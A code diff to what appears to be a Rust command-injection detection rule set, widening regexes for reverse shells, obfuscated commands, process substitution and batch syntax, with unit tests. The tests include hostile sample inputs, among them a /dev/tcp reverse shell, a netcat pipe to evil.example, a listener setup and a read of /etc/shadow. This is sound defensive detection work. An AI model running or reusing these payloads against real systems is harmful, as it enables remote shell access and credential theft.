@@ -9,7 +9,7 @@ use super::{Category::Rce, Check::*, RuleDef, Severity::*, rule};
 /// Commands that are almost never prose after a shell separator.
 macro_rules! strong_cmds {
     () => {
-        r"(?:whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|ncat|netcat|systeminfo|tasklist|taskkill|certutil|bitsadmin|powershell|pwsh|cmd(?:\.exe)?|wmic|mshta|rundll32|regsvr32|cscript|wscript|schtasks|traceroute|tracert|printenv|xxd|crontab|mkfifo|socat|nohup|chown|useradd|getent|lsb_release|busybox|netsh)"
+        r"(?:whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|ncat|netcat|systeminfo|tasklist|taskkill|certutil|bitsadmin|powershell|pwsh|cmd(?:\.exe)?|wmic|mshta|rundll32|regsvr32|cscript|wscript|schtasks|traceroute|tracert|printenv|xxd|crontab|mkfifo|socat|nohup|chown|useradd|getent|lsb_release|busybox|netsh|lastlog)"
     };
 }
 
@@ -102,7 +102,9 @@ pub(super) fn rules() -> Vec<RuleDef> {
             Regex(concat!(
                 r"(?:[;|&\n\r]|\$\(|[^\s`]`)\s*(?:[({]\s*)?(?:sudo\s+)?(?:[\w./-]*/)?",
                 weak_cmds!(),
-                r"\s+(?:-{1,2}[a-z]|/[a-z.~?*]|~/|\.{1,2}/|\$[({a-z]|[a-z]:\\|\\\\|(?:\d{1,3}\.){3}\d{1,3}|\d+\s*(?:$|[;|&`#])|https?://|\w+\.(?:txt|sh|py|php|pl|exe|conf|log|ini|bat|ps1)\b|aux\b|-ef\b|<\s*/|>\s*/)"
+                r"\s+(?:-{1,2}[a-z]|/[a-z.~?*]|~/|\.{1,2}/|\$[({a-z]|[a-z]:\\|\\\\|(?:\d{1,3}\.){3}\d{1,3}|\d+\s*(?:$|[;|&`#])|https?://|\w+\.(?:txt|sh|py|php|pl|exe|conf|log|ini|bat|ps1)\b|aux\b|-ef\b|<\s*/|>\s*/",
+                // Input read from a file: `&sort < file.txt`.
+                r"|<\s*[\w~./-]*[a-z][\w~-]*\.[a-z]{1,4}\b)"
             )),
             "Command line with command-like arguments after a separator",
         ),
@@ -135,9 +137,14 @@ pub(super) fn rules() -> Vec<RuleDef> {
             Regex(concat!(
                 r"^\s*(?:\d{1,3}\.){3}\d{1,3}\s*(?:[;|&`\n]|\$\()+\s*",
                 weak_cmds!(),
-                r"\b|^\s*(?:[\w./-]*/)?ping(?:\.exe)?\s+(?:-[a-z]+\s+(?:\d+\s+)?)*(?:localhost|127\.0\.0\.1)\b|^\s*(?:[<;|&]\s*)?(?:netstat|ifconfig|ipconfig|whoami|uname|systeminfo|tasklist|netsh|nslookup|traceroute|tracert|getent|lsb_release)(?:\.exe)?\s+[-/]\w|^\s*(?:sudo\s+)?",
+                r"\b|^\s*(?:whoami|uname|ifconfig|ipconfig|netstat|systeminfo|tasklist|printenv|lastlog)(?:\.exe)?\s*(?:[;|&`]|\$\()|^\s*(?:[\w./-]*/)?ping(?:\.exe)?\s+(?:-[a-z]+\s+(?:\d+\s+)?)*(?:localhost|127\.0\.0\.1)\b|^\s*(?:[<;|&]\s*)?(?:netstat|ifconfig|ipconfig|whoami|uname|systeminfo|tasklist|netsh|nslookup|traceroute|tracert|getent|lsb_release)(?:\.exe)?\s+[-/]\w|^\s*(?:sudo\s+)?",
                 weak_cmds!(),
-                r"\s+(?:-{1,2}\w+\s+)*/(?:etc|proc|root|boot|dev)(?:/|\s*$)",
+                // A system directory after options or other paths
+                // (`tar -xzf /var/www/x.tgz /etc`).
+                r"\s+(?:(?:-{1,2}\w+|/[\w.~-]+(?:/[\w.~-]*)*)\s+)*/(?:etc|proc|root|boot|dev)(?:/|\s*$)",
+                // A program of a system directory reading a system file:
+                // `/bin/zcat -f /etc/shadow.gz`; logs are ops' daily reading.
+                r"|^\s*/(?:usr/(?:local/)?)?s?bin/[\w.-]+\s+(?:-{1,2}\w+\s+)*/(?:etc|proc|root|boot|dev)/",
                 // A program of a system directory, then a separator: `/usr/bin/id|`.
                 r"|^\s*/(?:usr/(?:local/)?)?s?bin/[\w.-]+[^|;&\n]*[|;&\n]"
             )),
@@ -193,9 +200,22 @@ pub(super) fn rules() -> Vec<RuleDef> {
             // ANSI-C quoting next to a separator, or a command glued from variables
             // after a separator (`;a=i;b=d;$a$b`), its arguments variables too
             // (`c=cat&&$c $a$b`): shell, never prose.
-            Regex(
+            Regex(concat!(
                 r##"(?:^|[;|&\s])[a-z_]\w*=\S*\s*(?:;|&&|\|\|?)\s*\$\{?[a-z_]\w*\}?(?:\s+(?:\$\{?[a-z_]\w*\}?)+)*\s*(?:$|[;|&#])|(?:^|[;|&]\s*)[a-z_]\w*=\$['"][^'"]+['"]\s*[;|&]|\$'(?:[^'\\]*\\(?:[0-7]{1,3}|x[0-9a-f]{1,2})){2}|[;|&]\s*(?:\$\{?[a-z_]\w*\}?){2,}\s*(?:$|[;|&#])"##,
-            ),
+                // A command's name assigned, then the variable run with its
+                // arguments: `a=nc&&$a -nlvp 555`, `;c='curl';$c evil.example`.
+                r##"|(?:^|[;|&])\s*[a-z_]\w*=['"]?(?:"##,
+                strong_cmds!(),
+                "|",
+                weak_cmds!(),
+                r##")['"]?\s*(?:;|&&|\|\|)\s*\$\{?[a-z_]\w*\}?\s+\S"##,
+                // ... or to an alias run next: `alias "q"=curl&q evil.example`.
+                r##"|(?:^|[;|&])\s*alias\s+(?:-\w+\s+)*['"]?[\w.+-]+['"]?\s*=\s*['"]?(?:[\w./-]*/)?(?:"##,
+                strong_cmds!(),
+                "|",
+                weak_cmds!(),
+                r##")\b[^;|&\n]*\s*(?:;|&&?|\|\|?|\n)\s*\S"##,
+            )),
             "Shell variable or ANSI-C quoted command",
         ),
         rule(
@@ -347,13 +367,18 @@ pub(super) fn rules() -> Vec<RuleDef> {
             ATTACK,
             CMD,
             Regex(concat!(
-                r##"\bfor\s+(?:/[dlrf]\b[^%\n]{0,80})?%%?[\w~/\-]\s+in\s*\([^)\n]*\)\s*do\b"##,
+                // A loop runs any command (`do calc`); a format string's
+                // `for %s in (%s) do %s` runs none.
+                r##"\bfor\s+(?:/[dlrf]\b[^%\n]{0,80})?%%?[\w~/\-]*\s+in\s*\([^)\n]*\)\s*do\s+[@(\w]"##,
                 r##"|\bif\s+(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined)\s+\S*[^\s,.;:]|(?:errorlevel|cmdextversion)\s+\d+"##,
-                r##"|(?:%[^%\s]+%|![^!\s]+!|-?\d+|\[[^\]\s]*\])\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S+"##,
-                r##"|(?:\([^)\s]*\)|[^\s()]+)\s*==\s*(?:\([^)\s]*\)|[^\s()]*[^\s():]))\s+"##,
-                // Then a command, with an argument or none; `exit(1)` and `type =`
+                r##"|\(?\s*(?:%[^%\s]+%|![^!\s]+!|-?\d+|\[[^\]\s]*\])\s+(?:equ|neq|lss|leq|gtr|geq)\s+[^\s()]+\s*\)?"##,
+                // An empty right side is the shell reading's `""`:
+                // `if "%v%"=="" (set v=1)`.
+                r##"|(?:\([^)\s]*\)|[^\s()]+)\s*==\s*(?:\([^)\s]*\)|[^\s()]*[^\s():])?)\s+"##,
+                // Then a command, with an argument or none, or a block opened
+                // at the line's end (`if exist x (`); `exit(1)` and `type =`
                 // are C, JS and Python.
-                r##"(?:@\S|\(\s*(?:@|"##,
+                r##"(?:\(\s*$|@\S|\(\s*(?:@|"##,
                 batch_cmds!(),
                 r##"\b)|"##,
                 batch_cmds!(),
@@ -381,13 +406,21 @@ pub(super) fn rules() -> Vec<RuleDef> {
             ATTACK,
             DEC,
             Regex(concat!(
-                r"\$\(\s*(?:[\w./-]*/)?",
+                // `$(id)`, and a process substitution (`<(cmd)`, `>(nc x 1)`).
+                r"(?:\$|(?:^|[^=-])[<>])\(\s*(?:[\w./-]*/)?",
                 weak_cmds!(),
                 r#"\b|\$\{ifs\}|\$ifs\b|\$\{(?:path|home|shell|pwd):\d|(?:^|[=;|&\w'"])`(?:[\w./-]*/)?"#,
                 weak_cmds!(),
                 r"\b[^`]*`",
                 backtick_close!(),
                 r"|\{\s*(?:cat|ls|id|echo|wget|curl|nc|bash|sh),[^}]*\}",
+                // An empty first element is brace expansion's alone:
+                // `{,ifconfig}`, `{,$'whoami',}`.
+                r"|\{,\$?['\x22]?(?:[\w./-]*/)?(?:",
+                strong_cmds!(),
+                "|",
+                weak_cmds!(),
+                r")\b",
                 // The shell fed its own script (`$0<<<$'\151\144'`), and characters
                 // written as base-N arithmetic (`$((2#1100011))`).
                 r"|\$0\s*<<<|\$\(\(\s*(?:\d{1,2}|\$\(\(\s*1\s*<<\s*\d\s*\)\))\s*#\s*[0-9a-z]{1,64}\s*\)\)"
@@ -402,7 +435,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             ATTACK,
             CMD,
             Regex(
-                r##"/dev/(?:tcp|udp)/|\$\{?[a-z_]\w*\}?/(?:tcp|udp)/[\w.-]+/\d+|\b(?:ba|z|k|da)?sh\s+-[ic]\b|\bnc(?:at)?(?:\.exe)?\s+(?:-[a-z]*[ec]\s|-l)|\b(?:python[\d.]*|perl|ruby|php|node|lua)\s+-[erc]\s|\bmkfifo\s+/tmp|(?:^|[;|&\s`(])/bin/(?:ba|z|k|c|da|tc)?sh\b(?:\s+-[ic]|\s*$|\s*[;|&<>])|\bexec\s+\d*<>|\bxterm\s+-display|\b(?:curl|wget)\s[^|;&]*\|\s*(?:ba|z)?sh\b|\bchmod\s+[+0-7]*x?\s+/tmp|\btelnet\s+\S+\s+\d+\s*\||/inet/(?:tcp|udp)/\d+/"##,
+                r##"/dev/(?:tcp|udp)/|\$\{?[a-z_]\w*\}?/(?:tcp|udp)/[\w.-]+/\d+|\b(?:ba|z|k|da)?sh\s+-[ic]\b|\bnc(?:at)?(?:\.exe)?\s+(?:-[a-z]*[ec]\s|-l)|\b(?:python[\d.]*|perl|ruby|php|node|lua)\s+-[erc]\s|\bmkfifo\s+/tmp|\b(?:ba|z|k|da)?sh\s+(?:-\w+\s+)*/(?:tmp|var/tmp|dev/shm)/|(?:^|[;|&\s`(])/bin/(?:ba|z|k|c|da|tc)?sh\b(?:\s+-[ic]|\s*$|\s*[;|&<>])|\bexec\s+\d*<>|\bxterm\s+-display|\b(?:curl|wget)\s[^|;&]*\|\s*(?:ba|z)?sh\b|\bchmod\s+[+0-7]*x?\s+/tmp|\btelnet\s+\S+\s+\d+\s*\||/inet/(?:tcp|udp)/\d+/"##,
             ),
             "Reverse shell or remote script execution",
         ),
@@ -517,21 +550,26 @@ fn any_word_hides_command(cmd: &regex::Regex, s: &str) -> bool {
 /// What may start obfuscation in a word: shell quoting marks and a glob class.
 const TRIGGERS: &[u8] = b"'\"\\^[";
 
-/// The rule's prefilter: a value with none of these is never read. `$` and the
-/// backtick for [`empty_expansions`].
-const PREFILTER: &[u8] = b"'\"\\^[$`";
+/// The rule's prefilter: a value with none of these is never read. `$`, the
+/// backtick, `<` and `>` for [`empty_expansions`].
+const PREFILTER: &[u8] = b"'\"\\^[$`<>";
 
 /// `c$@at`, `c$*at`, `c$1at`, `c${x}at`: inside a shell word, `$@` and `$*`
 /// (no positional parameters), `$1`..`$9` and an unset variable expand to
-/// nothing, and so does an empty command substitution (`w$()hoami`, and
-/// `` pi``ng `` between two letters: reST and Markdown write ``` ``GET``/``HEAD`` ```
-/// around words): they hide a command the way `''` does, and are read as `''`.
+/// nothing, and so does an empty command or process substitution (`w$()hoami`,
+/// `pi<()ng`, and `` pi``ng `` between two letters: reST and Markdown write
+/// ``` ``GET``/``HEAD`` ``` around words): they hide a command the way `''`
+/// does, and are read as `''`.
 /// (`$$`, `$?`, `$!`, `$-` and `$_` expand to text, and stay.)
 fn empty_expansions(s: &str) -> std::borrow::Cow<'_, str> {
     static EMPTY: std::sync::LazyLock<Option<regex::Regex>> =
         std::sync::LazyLock::new(|| regex::Regex::new(r"\$(?:[@*1-9]|\{\w{0,8}\}|\(\))").ok());
-    static GLUED: std::sync::LazyLock<Option<regex::Regex>> =
-        std::sync::LazyLock::new(|| regex::Regex::new(r"(\w)``(\w)").ok());
+    // Between two letters, or ending a word that no backtick opened (`` ping``
+    // 127.0.0.1 ``; reST's ``` ``ls`` lists ``` opens its word with them), read
+    // as `''` before the word's last letter (a quote at a word's end only quotes).
+    static GLUED: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
+        regex::Regex::new(r"(\w)(?:``|[<>]\(\))(\w)|(^|[\s;|&])([\w./-]*)(\w)``(\s|$)").ok()
+    });
     let mut out = std::borrow::Cow::Borrowed(s);
     if s.contains('$')
         && let Some(re) = EMPTY.as_ref()
@@ -539,9 +577,9 @@ fn empty_expansions(s: &str) -> std::borrow::Cow<'_, str> {
     {
         out = std::borrow::Cow::Owned(o);
     }
-    if s.contains("``")
+    if (s.contains("``") || s.contains("()"))
         && let Some(re) = GLUED.as_ref()
-        && let std::borrow::Cow::Owned(o) = re.replace_all(&out, "${1}''${2}")
+        && let std::borrow::Cow::Owned(o) = re.replace_all(&out, "${1}${3}${4}''${2}${5}${6}")
     {
         out = std::borrow::Cow::Owned(o);
     }
@@ -572,7 +610,17 @@ fn hides_command(cmd: &regex::Regex, w: &str) -> bool {
     {
         return false;
     }
-    let inner = w.trim_matches(|c| matches!(c, '\'' | '"'));
+    // A word quoted whole (`'cat'`, `"id"`) is that word, and so is one that
+    // quotes end (TeX's ``` ``/bin/cat'' ```); a quote opening a word that goes
+    // on past its close hides the command (`'c'url`).
+    let is_quote = |c: char| matches!(c, '\'' | '"');
+    let whole = w.starts_with(is_quote) && w.ends_with(is_quote);
+    let inner = if whole {
+        w.trim_matches(is_quote)
+    } else {
+        w.trim_end_matches(is_quote)
+    };
+    let opens = !whole && w.starts_with(is_quote);
     if !inner.bytes().any(is_trigger) {
         return false;
     }
@@ -634,8 +682,9 @@ fn hides_command(cmd: &regex::Regex, w: &str) -> bool {
     };
     // Two letters left by one mark are a command only when an escape sits inside
     // the word (`l\s`, `i^d`); one quote there is an apostrophe (`I'd`), and a
-    // leading backslash a TeX macro (`\rm`).
-    let enough = text.len() >= 3 || cleaned.marks >= 2 || cleaned.escape_inside;
+    // leading backslash a TeX macro (`\rm`). A quoted word's opening letter is
+    // a quotation's first word (`'I'd rather not'`) when two letters are left.
+    let enough = text.len() >= 3 || (!opens && (cleaned.marks >= 2 || cleaned.escape_inside));
     enough && cmd.is_match(text)
 }
 
@@ -724,6 +773,10 @@ mod tests {
             "c$*at /etc/passwd",
             "who$1ami",
             "c${x}url http://evil.example/x.sh",
+            "pi<()ng 127.0.0.1",
+            "wh>()oami",
+            "ping`` 127.0.0.1",
+            ";whoami``",
         ] {
             assert!(obfuscated_command(a), "missed {a}");
         }
@@ -733,6 +786,10 @@ mod tests {
             "echo $1 and $@",
             "c$$at is a pid",
             "Hello ${name}, welcome",
+            "a<()b is no command",
+            "f(x) => g(y)",
+            "``ping`` 127.0.0.1 answers",
+            "the ``ls`` listing",
         ] {
             assert!(!obfuscated_command(b), "flagged {b}");
         }
@@ -745,6 +802,8 @@ mod tests {
             "wh\\oami",
             "who^ami",
             "; c'a't /etc/passwd",
+            "'c'url localhost",
+            "\"wh\"oami",
             "x|bin/w\"ge\"t http://e.example/x",
             "caf\u{e9} && c\"a\"t x",
             ";{l\\s,-la}",
@@ -764,6 +823,9 @@ mod tests {
             "I'd say \"cat\" is a pet",
             "I\\'d say so",
             "the string's length",
+            "'I'd rather not,' she said",
+            "'cat's toy'",
+            "if you execute ``bzexe /bin/cat'' it",
             "wh'oami",
             "{\\rm roman} and \\sl",
             "x = p[s] + d[d]",
@@ -871,10 +933,16 @@ mod tests {
         }
         for a in [
             "`id`",
+            "{,ifconfig}",
+            "{,$'whoami',}",
+            "{,echo,#test}",
             "a=`id`",
             "`id`|x",
             "'`ls`'",
             "ax--exec=`id`--remote=origin",
+            "<(cmd)",
+            "diff <(sort a) <(sort b)",
+            "tee >(nc evil.example 9)",
             "$0<<<$\\'\\\\$(($((1<<1))#10011010))\\'",
             "$((2#1100011))",
         ] {
@@ -891,6 +959,11 @@ mod tests {
             "the `id`'s type",
             "default to `true`; set `DOTENV_QUIET=false`",
             "an `id`-based lookup",
+            "items.map(x =>(id) + 1)",
+            "$obj->(cat)",
+            "a <(b) c",
+            "{,a,b}",
+            "f({, cat})",
         ] {
             assert!(!fires(932100, b) && !fires(932130, b), "flagged {b}");
         }
@@ -944,6 +1017,18 @@ mod tests {
         assert!(fires(932107, "ipconfig.exe /all"));
         assert!(!fires(932107, "setup.exe -n 5"));
         assert!(fires(932107, "/usr/bin/id|"));
+        // A reconnaissance command ended by a separator, whatever follows.
+        assert!(fires(932107, "whoami;0'0'\""));
+        assert!(fires(932107, "uname|"));
+        assert!(fires(932100, ";lastlog -u root"));
+        assert!(!fires(932107, "whoami is a command"));
+        assert!(!fires(932107, "netstat, ss and ip"));
+        // A system directory after other paths; a system program reading logs.
+        assert!(fires(932107, "tar -xzf /var/www/exfiltrate.tar.gz /etc"));
+        assert!(fires(932107, "/bin/zcat -f /etc/shadow.gz"));
+        assert!(!fires(932107, "tail -f /var/log/app.log"));
+        assert!(!fires(932107, "more info /etc/hosts"));
+        assert!(!fires(932107, "/usr/bin/python3 -m http.server"));
         assert!(fires(932107, "/bin/cat /etc/hosts;"));
         assert!(!fires(932107, "/usr/bin/python3"));
         assert!(!fires(932107, "see /usr/bin/env | grep"));
@@ -973,6 +1058,15 @@ mod tests {
             "if (AA) == (AA) echo same",
             "IF ERRORLEVEL 3 IF NOT ERRORLEVEL 4 echo x",
             "IF EXIST C:\\pagefile.sys (CMD) ELSE (CMD)",
+            // Any command after a loop; a long variable name; a block opened.
+            "for /d %variable in (set) do command",
+            "for %%variable in (set) do command",
+            "for /l %i in (1,1,2) do calc",
+            "FOR /F \"tokens=1,2* delims=,\" %% IN (C:\\a.txt) DO ECHO %%",
+            "IF        EXIST filename.txt     (",
+            "IF (2 GEQ 15) echo \"bigger\"",
+            "IF \"%var%\"==\"\" (SET var=default value)",
+            "if not \"A%1\" == \"A\" (",
         ] {
             assert!(fires(932141, a), "missed {a:?}");
         }
@@ -995,6 +1089,9 @@ mod tests {
             "if defined here, set the value in config.yaml",
             "If not defined explicitly, type will be inferred",
             "how to check if errorlevel is set in batch",
+            "printf(\"for %s in (%s) do %s\", a, b, c)",
+            "for %s in (%s) do",
+            "if x == (\n  1, 2): pass",
         ] {
             assert!(!fires(932141, b), "flagged {b:?}");
         }
@@ -1034,6 +1131,11 @@ mod tests {
         assert!(fires(932105, "1|sleep 5#"));
         assert!(fires(932105, "1|sleep 5"));
         assert!(!fires(932105, "sleep 5# hours"));
+        // Input redirected from a file.
+        assert!(fires(932105, "view=image.jpg&sort < file.txt"));
+        assert!(fires(932105, ";cat <~/notes.md"));
+        assert!(!fires(932105, "a & sort < 5 items"));
+        assert!(!fires(932105, "Tom & Jerry <3"));
     }
 
     #[test]
@@ -1166,6 +1268,11 @@ mod tests {
             assert!(!fires(932117, b), "flagged {b:?}");
         }
         assert!(fires(932140, "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777"));
+        // A shell running a script dropped in a temporary directory.
+        assert!(fires(932140, "bash /tmp/evil.sh"));
+        assert!(fires(932140, "x; sh -x /dev/shm/.a"));
+        assert!(!fires(932140, "bash /home/me/build.sh"));
+        assert!(!fires(932140, "the fish /tmp folder"));
         assert!(!fires(932140, "$5/tcp/80 per month"));
     }
 
@@ -1178,6 +1285,15 @@ mod tests {
         assert!(!fires(932108, "x=1 && $EDITOR notes.txt"));
         assert!(!fires(932108, "costs $5 or $10"));
         assert!(!fires(932108, "$a$b"));
+        // A command's name assigned, then run through the variable.
+        assert!(fires(932108, "a=nc&&$a -nlvp 555"));
+        assert!(fires(932108, ";c='curl';$c evil.example"));
+        assert!(!fires(932108, "x=1; $x apples"));
+        assert!(!fires(932108, "name=cat and $name food"));
+        assert!(fires(932108, "alias \"quote\"=curl&quote google.com"));
+        assert!(fires(932108, "alias alias='curl'&letter google.com"));
+        assert!(!fires(932108, "alias ll='ls -l'"));
+        assert!(!fires(932108, "the alias ls=list; see below"));
     }
 
     #[test]
